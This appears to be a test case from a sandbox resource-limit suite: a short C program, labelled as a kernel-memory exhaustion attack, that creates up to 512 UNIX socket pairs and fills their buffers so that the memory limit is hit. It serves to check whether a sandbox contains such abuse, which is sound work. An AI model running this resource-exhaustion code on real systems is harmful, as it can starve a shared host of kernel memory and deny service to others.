// attack: fills local sockets that nobody reads
// class: exhaustion/kernel-memory
// expect: memory limit
// stopped-by: memory
// outside: breached
// limits: memory_mib=32 open_files=2048
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/socket.h>

static char block[65536];

int main(void) {
    for (int i = 0; i < 512; i++) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) break;
        fcntl(pair[0], F_SETFL, O_NONBLOCK);
        while (write(pair[0], block, sizeof block) > 0);
    }
    puts("BREACHED: 512 sockets are full");
}
